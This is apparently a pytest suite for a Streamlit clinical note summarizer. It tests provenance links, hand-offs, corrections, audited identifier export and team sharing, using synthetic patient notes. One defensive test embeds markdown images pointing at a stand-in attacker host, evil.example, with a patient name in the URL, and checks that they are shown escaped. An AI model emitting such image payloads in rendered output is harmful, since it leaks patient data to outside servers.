"""AppTest of the record summarizer page and the Model lab section (template LLM, fake embeddings)."""

import pytest
from streamlit.testing.v1 import AppTest

from pathlib import Path

PAGE = str(Path(__file__).resolve().parents[2] / "pages" / "record_summarizer.py")


@pytest.fixture
def app(settings, fast_embed):
    at = AppTest.from_file(PAGE, default_timeout=120)
    at.run()
    assert not at.exception
    return at


def test_page_renders_empty(app):
    assert any("Paste a note" in i.value for i in app.info)


def test_paste_summarize_provenance_edit_handoff(app, store):
    note = ("Patient: Harold Jenkins  MRN: 00482913\nHPI: 68-year-old man with hypertension admitted with chest pain. "
            "Denies fever.\nMedications: Furosemide 40 mg PO daily (new).\nAllergies: penicillin (hives).\n"
            "Labs: potassium 3.1 mmol/L.\nPlan: Follow up with cardiology in 1 week.\n")
    app.text_area(key="rec_input").set_value(note)
    next(b for b in app.button if b.label == "Summarize pasted note").click()
    app.run()
    assert not app.exception and not app.error
    text = " ".join(m.value for m in app.markdown).replace("\\", "")  # note text is shown escaped
    assert "68-year-old man" in text
    caps = " ".join(c.value for c in app.caption)
    assert "extractive" in caps and "no language model" in caps
    # clickable provenance
    item = next(b for b in app.button if "furosemide" in b.label)
    item.click()
    app.run()
    assert any("Furosemide 40 mg" in i.value.replace("\\", "") for i in app.info)
    # hand-off
    next(b for b in app.button if b.label == "Send to treatment planner").click()
    app.run()
    handoffs = store.list_work(kind="handoff", status="open")
    assert handoffs and any(m["name"] == "furosemide" for m in handoffs[0].data["medications"])
    # clinician correction stored as a (note, corrected summary) pair
    next(t for t in app.text_area if t.label == "Corrected summary").set_value("Corrected: chest pain; furosemide started.")
    next(b for b in app.button if b.label == "Save correction").click()
    app.run()
    fb = [f for f in store.list_feedback("records") if f["kind"] == "correction"]
    assert fb and fb[0]["data"]["summary"].startswith("Corrected") and "Jenkins" in fb[0]["data"]["note"]


def test_empty_paste_gives_message(app):
    next(b for b in app.button if b.label == "Summarize pasted note").click()
    app.run()
    assert not app.exception
    assert any("empty" in e.value for e in app.error)


def test_sample_and_reload_restores_work(settings, fast_embed):
    at = AppTest.from_file(PAGE, default_timeout=120)
    at.run()
    next(b for b in at.button if b.label == "Load and summarize sample").click()
    at.run()
    assert not at.exception
    ws = at.query_params.get("ws")
    ws = ws[0] if isinstance(ws, list) else ws
    again = AppTest.from_file(PAGE, default_timeout=120)
    again.query_params["ws"] = ws
    again.run()
    assert not again.exception
    assert any("year-old" in m.value.replace("\\", "") or "Patient" in m.value
               for m in again.markdown if m.value.startswith("**"))


def test_lab_section_renders(settings, store):
    at = AppTest.from_string(
        "from ui.loaders import get_settings, get_store\n"
        "import ui.lab_records as lab\n"
        "lab.render(get_settings(), get_store())\n", default_timeout=120)
    at.run()
    assert not at.exception
    next(b for b in at.button if b.label == "Run evaluation").click()
    at.run()
    assert not at.exception
    assert len(at.dataframe) >= 2
    assert any(m.label.startswith("Clinician correction pairs") for m in at.metric)


def _unescaped_markdown(values) -> list[str]:
    """Rendered strings in which a markdown image or link would be live (an unescaped '![' or '](')."""
    import re

    live = re.compile(r"(?<!\\)!(?<!\\)\[|(?<!\\)\]\(")
    return [v for v in values if live.search(v)]


def test_markdown_in_a_note_is_shown_as_text(app):
    # An image in rendered markdown is fetched by every viewer's browser: a tracking and exfiltration channel.
    note = ("HPI: 68-year-old man with chest pain ![x](http://evil.example/t.png?n=Jenkins).\n"
            "Medications: Furosemide 40 mg PO daily [click](http://evil.example/).\n"
            "Assessment: chest pain ![y](http://evil.example/a.png).\n")
    app.text_area(key="rec_input").set_value(note)
    next(b for b in app.button if b.label == "Summarize pasted note").click()
    app.run()
    assert not app.exception and not app.error
    shown = [m.value for m in app.markdown] + [i.value for i in app.info] + [b.label for b in app.button] + [
        c.value for c in app.caption] + [w.value for w in app.warning] + [s.value for s in app.success]
    assert any("evil" in v for v in shown)  # the text is there, as typed
    assert _unescaped_markdown(shown) == []
    item = next(b for b in app.button if "Furosemide" in b.label or "furosemide" in b.label)
    item.click()
    app.run()
    assert _unescaped_markdown([i.value for i in app.info]) == [] and app.info


def test_identifiers_in_downloads_are_an_audited_choice(app, store):
    app.text_area(key="rec_input").set_value("Patient: Harold Jenkins\nHPI: 68-year-old man with chest pain.\n")
    next(b for b in app.button if b.label == "Summarize pasted note").click()
    app.run()
    toggle = app.toggle(key="rec_ident")
    assert toggle.value is False  # de-identified downloads by default
    assert not [e for e in store.audit_events() if e["action"] == "export_identifiers"]
    toggle.set_value(True).run()
    assert not app.exception and not app.error
    assert [e for e in store.audit_events() if e["action"] == "export_identifiers"]


def test_model_narrative_never_holds_back_the_structured_result(settings, fast_embed, monkeypatch):
    """Issue 11: language-model text is written afterwards, in the background; the engines' result is on screen
    at once, and the model's version replaces the extractive one when it is done."""
    import dataclasses
    import threading
    import time

    from medcore.records import service

    release = threading.Event()
    real = service.summarize_bounded

    def slow_model(note, s, **kw):
        if s.llm_backend != "template":  # the model's run: held until the test lets it go
            assert release.wait(60)
            s = dataclasses.replace(s, llm_backend="template")  # no real model in tests
        return real(note, s, **kw)

    monkeypatch.setattr(service, "summarize_bounded", slow_model)
    monkeypatch.setenv("MEDCORE_LLM_BACKEND", "embedded")
    at = AppTest.from_file(PAGE, default_timeout=120)
    at.run()
    at.text_area(key="rec_input").set_value("HPI: 71-year-old woman with atrial fibrillation and new ankle swelling.\n"
                                            "Medications: apixaban 5 mg PO twice daily.\nPlan: echo in 2 weeks.\n")
    next(b for b in at.button if b.label == "Summarize pasted note").click()
    at.run()
    assert not at.exception and not at.error
    assert "71-year-old woman" in " ".join(m.value for m in at.markdown).replace("\\", "")
    assert any("apixaban" in b.label for b in at.button)  # the structured summary, while the model writes
    assert "writing its version in the background" in " ".join(c.value for c in at.caption)
    release.set()
    for _ in range(60):
        time.sleep(0.5)
        at.run()
        if "writing its version" not in " ".join(c.value for c in at.caption):
            break
    caps = " ".join(c.value for c in at.caption)
    assert "writing its version" not in caps and "Shown:" in caps
    assert not at.exception and not at.error


def test_a_member_sends_a_handoff_to_their_team(settings, fast_embed, store, monkeypatch):
    """Shared mode: alice picks her team in "Hand-off for"; bob (same team) sees it, carol (not in it) does not."""
    from streamlit import config

    from medcore import auth, teams
    from medcore.auth import User

    config.set_option("server.address", "0.0.0.0")  # reset by the autouse fixture in tests/conftest.py
    monkeypatch.setenv("MEDCORE_AUTH", "accounts")
    for name in ("alice", "bob", "carol"):
        auth.add_user(store, name, "a long password", "clinician")
    teams.create_team(store, "ward-3")
    teams.add_member(store, "ward-3", "alice")
    teams.add_member(store, "ward-3", "bob")
    at = AppTest.from_file(PAGE, default_timeout=120)
    at.session_state["_signed_in_user"] = User("alice", "clinician")
    at.run()
    at.text_area(key="rec_input").set_value("HPI: 70-year-old woman with atrial fibrillation.\n"
                                            "Medications: warfarin 5 mg PO daily.\n")
    next(b for b in at.button if b.label == "Summarize pasted note").click().run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    at.selectbox(key="rec_handoff_team").set_value("team ward-3")
    next(b for b in at.button if b.label == "Send to treatment planner").click().run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    done = next(s.value for s in at.success if "Hand-off #" in s.value)
    assert "for the members of team ward" in done and "/therapy?handoff=" in done
    shared = store.as_user(User("bob", "clinician")).list_work(kind="handoff", status="open")
    assert len(shared) == 1 and shared[0].user == "alice" and shared[0].team == "ward-3"
    assert store.as_user(User("carol", "clinician")).list_work(kind="handoff") == []


@pytest.mark.parametrize("note, label, headings", [
    ("DISCHARGE", "Discharge summary", ["Reason for admission", "Principal diagnosis", "Hospital course",
                                        "Medication changes", "Pending results", "Follow-up"]),
    ("ED", "Emergency department note", ["Complaint", "Findings", "Disposition"]),
    ("CONSULT", "Consultation", ["Question asked", "Assessment", "Recommendations"]),
    ("PROGRESS", "Progress note", ["Subjective", "Objective", "Assessment", "Plan"]),
    ("RADIOLOGY", "Radiology / diagnostic report", ["Findings", "Impression"]),
    ("PLAIN", "type not recognised", ["Active problems", "Medications", "Allergies", "Plan"]),
])
def test_summary_is_laid_out_by_note_type(app, note, label, headings):
    from tests.records import layout_notes

    app.text_area(key="rec_input").set_value(getattr(layout_notes, note))
    next(b for b in app.button if b.label == "Summarize pasted note").click()
    app.run()
    assert not app.exception and not app.error
    caps = " ".join(c.value for c in app.caption).replace("\\", "")
    assert f"Note type: **{label}" in caps or (label in caps and "Note type" in caps)
    shown = [m.value.replace("\\", "") for m in app.markdown]
    for h in headings:
        assert f"**{h}**" in shown, f"{h} not shown for {note}"
    # every line is a provenance link: clicking the first one shows its source sentence
    links = [b for b in app.button if b.key and b.key.startswith("rec_item_")]
    assert links
    links[0].click()
    app.run()
    assert not app.exception and any("Source:" in m for m in (x.value for x in app.markdown))
